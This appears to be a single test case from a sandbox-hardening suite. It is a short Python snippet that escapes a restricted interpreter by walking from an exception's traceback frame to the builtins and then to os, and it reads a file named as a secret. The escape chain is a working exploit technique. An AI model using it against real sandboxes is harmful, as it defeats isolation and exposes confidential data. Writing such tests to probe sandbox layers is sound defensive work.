# class: exceptions and frames
# technique: the frame of an exception's traceback
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    [][0]
except IndexError as error:
    g = error.__traceback__.tb_frame.f_builtins["quit"].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
